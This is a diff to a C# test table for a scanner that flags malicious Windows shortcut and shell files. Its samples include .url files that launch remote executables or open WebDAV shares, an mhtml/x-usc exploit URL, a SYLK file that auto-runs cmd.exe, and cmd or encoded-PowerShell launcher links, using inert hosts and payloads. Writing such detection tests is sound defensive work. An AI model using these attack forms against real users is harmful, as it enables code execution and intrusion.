@@ -13,7 +13,7 @@ public sealed class ShortcutsStageTests
 
     private static readonly HeuristicCase[] Table =
     [
-        Lnk(Launcher, new LinkBuilder().To(Cmd).With("/k prompt.bat"), new LinkBuilder().To(Program).With("/k"), new LinkBuilder().To(@"C:\cmd.exe.txt"), new LinkBuilder().To(@"C:\docs\powershell.pdf")),
+        Lnk(Launcher, new LinkBuilder().To(Cmd).With("/k prompt.bat"), new LinkBuilder().To(Cmd).With("/k \"C:\\Program Files\\Kit\\prompt.bat\""), new LinkBuilder().To(Program).With("/k"), new LinkBuilder().To(@"C:\cmd.exe.txt"), new LinkBuilder().To(@"C:\docs\powershell.pdf")),
         Lnk(LauncherCommand, new LinkBuilder().To(Cmd).With("/c start /min powershell -enc " + InertFiles.EncodedCommand("Get-Date")),
             new LinkBuilder().To(Cmd).With("/k prompt.bat"), new LinkBuilder().To(Program).With("https://app.invalid/"), new LinkBuilder().To(Cmd).With("/c \"C:\\App\\start.bat\"")),
         Lnk(Padded, new LinkBuilder().To(Cmd).With("a" + new string(' ', 60) + "b"), new LinkBuilder().To(Cmd).With("a" + new string(' ', 8) + "b"),
@@ -26,6 +26,11 @@ public sealed class ShortcutsStageTests
         Lnk(EnvironmentTarget, new LinkBuilder().Environment(@"%windir%\system32\cmd.exe"), new LinkBuilder().To(Cmd).Environment(@"%windir%\system32\cmd.exe"), new LinkBuilder().To(Program), new LinkBuilder().From("pc")),
         HeuristicCase.Of(UrlRemoteFile, "a.url", "[InternetShortcut]\r\nURL=file://192.0.2.1/share/a.exe\r\n", "[InternetShortcut]\r\nURL=https://host.invalid/\r\n",
             "[InternetShortcut]\r\nURL=file:///C:/docs/index.html\r\n", "[InternetShortcut]\r\nURL=https://host.invalid/\r\nIconFile=C:\\a.ico\r\n"),
+        new(LauncherSent, Zipped(new LinkBuilder().To(Cmd).With("/c run.bat")), Zipped(new LinkBuilder().To(Program)), Zipped(new LinkBuilder().To(@"C:\Windows\explorer.exe").With("C:\\docs")), new("a.lnk", new LinkBuilder().To(Cmd).With("/c run.bat").Build())),
+        Url(UrlRemoteProgram, "URL=file://192.0.2.1/share/a.exe", "URL=file://192.0.2.1/share/a.pdf", "URL=https://host.invalid/a.exe", "URL=C:\\App\\a.exe\r\nWorkingDirectory=C:\\App"),
+        Url(UrlHandler, "URL=search-ms:query=x", "URL=https://host.invalid/javascript:", "URL=mailto:a@b.invalid", "URL=file:///C:/a.html"),
+        Url(UrlExploit, "URL=mhtml:http://192.0.2.1/a.html!x-usc:http://192.0.2.1/a.html", "URL=mhtml:file://C:\\a.mht", "URL=https://host.invalid/x-usc", "URL=https://host.invalid/!x"),
+        Url(WebFolder, "URL=\\\\192.0.2.1@80\\DavWWWRoot\\a", "URL=\\\\firm.sharepoint.com@SSL\\DavWWWRoot\\sites\\a", "URL=\\\\fs01\\share", "URL=https://host.invalid/"),
         HeuristicCase.Of(QueryCommand, "a.iqy", "WEB\r\n1\r\nhttp://192.0.2.1/a.dat\r\n", "WEB\r\n1\r\nhttp://investor.msn.com/q.asp\r\n", "WEB\r\n1\r\nC:\\local.html\r\n", "WEB\r\nsite\r\nhttp://192.0.2.1/\r\n"),
         HeuristicCase.Of(SheetExec, "a.slk", "ID;P\r\nO;E\r\nNN;NAuto_open;ER101C1;KOut Flank;F\r\nC;X1;Y101;EEXEC(\"cmd.exe\")\r\nE\r\n", "ID;PWXL;N;E\r\nC;X1;Y1;K\"exec\"\r\nE\r\n",
             "ID;PWXL;N;E\r\nC;X1;Y1;ESUM(R1C1)\r\nE\r\n", "ID;PWXL;N;E\r\nC;X1;Y1;K\"call (me)\"\r\nE\r\n"),
@@ -59,6 +64,11 @@ public sealed class ShortcutsStageTests
 
     private static HeuristicCase Lnk(Heuristic heuristic, LinkBuilder positive, params LinkBuilder[] negatives) =>
         new(heuristic, new("a.lnk", positive.Build()), [.. negatives.Select(link => new SampleFile("a.lnk", link.Build()))]);
+
+    private static SampleFile Zipped(LinkBuilder link) => new("a.zip", InertFiles.Zip(("a.lnk", link.Build()), ("a.txt", "text"u8.ToArray())));
+
+    private static HeuristicCase Url(Heuristic heuristic, string positive, params string[] negatives) =>
+        HeuristicCase.Of(heuristic, "a.url", $"[InternetShortcut]\r\n{positive}\r\n", [.. negatives.Select(lines => $"[InternetShortcut]\r\n{lines}\r\n")]);
 
     private static string Inf(string line) => $"[version]\r\nSignature=$chicago$\r\nAdvancedINF=2.5\r\n[DefaultInstall]\r\nUnRegisterOCXs=Reg\r\n[Reg]\r\n{line}\r\n";
 
